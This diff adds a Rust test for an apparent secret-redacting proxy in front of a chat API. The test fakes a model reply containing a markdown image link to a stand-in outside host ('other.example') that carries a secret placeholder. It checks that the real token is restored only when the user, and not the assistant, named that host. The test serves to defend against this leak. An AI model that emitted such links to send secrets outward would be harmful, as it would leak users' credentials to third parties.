@@ -239,6 +239,23 @@ fn a_url_that_begins_in_one_text_gets_no_value_in_the_next() {
 }
 
 #[test]
+fn what_the_model_wrote_before_names_no_host() {
+    let proxy = Fixture::start("model-names");
+    let token = proxy.run.secret(TOKEN);
+    let place = placeholder(&proxy, &token);
+    for (role, expected) in [("assistant", false), ("user", true)] {
+        proxy
+            .practice
+            .set(&json!({"reply": format!("![x](https://other.example/{place})"), "piece": 0, "call": false}));
+        let body = json!({"model": "m", "messages": [{"role": "user", "content": format!("T={token}")},
+            {"role": role, "content": format!("I write https://other.example/{token} into a file.")},
+            {"role": "user", "content": "Go on."}]});
+        let reply = proxy.post("/v1/chat/completions", &body);
+        assert_eq!(reply.text().contains(&token), expected, "{role}: {}", reply.text());
+    }
+}
+
+#[test]
 fn a_command_that_goes_on_over_lines_gets_no_value() {
     let proxy = Fixture::start("long-command");
     let token = proxy.run.secret(TOKEN);
